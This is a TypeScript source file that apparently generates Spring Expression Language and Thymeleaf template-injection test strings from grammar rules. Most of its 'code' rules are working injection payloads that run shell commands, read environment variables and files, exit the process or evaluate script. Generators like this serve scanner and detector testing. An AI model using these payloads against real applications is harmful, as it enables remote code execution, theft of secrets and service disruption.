// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Spring's expressions: types, constructors, beans; also where Thymeleaf preprocesses them. */
export const spelExpression = templateGenerator({
  name: 'spel-expression',
  engines: ['spel'],
  rules: {
    start: [
      '{mark}{l}{code}{r}',
      '{before}{mark}{l}{code}{r}',
      '__${l}{code}{r}__::.{letters}',
      '{code}',
      '*{l}{code}{r}',
      '{letters}[{code}]',
    ],
    mark: ['$', '#', '$', '*', '@'],
    code: [
      "T(java.lang.Runtime).getRuntime().exec('{command}')",
      'T(java.lang.Runtime).getRuntime().exec("{command}")',
      "new java.lang.ProcessBuilder('{command}').start()",
      "new ProcessBuilder(new String[]{l}'sh','-c','{command}'{r}).start()",
      "T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('{command}').getInputStream())",
      'T(java.lang.System).getenv()',
      'T(java.lang.System).exit(0)',
      "T(java.nio.file.Files).lines(T(java.nio.file.Paths).get('{file}'))",
      "''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'{command}')",
      'new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("{command}").getInputStream()).next()',
      'T(java.lang.Thread).sleep({number}0)',
      "#this.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('{digit}')",
      "@environment.getProperty('{letters}').getClass().getClassLoader()",
      "new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('java.lang.Runtime.getRuntime().exec(1)')",
    ],
  },
});
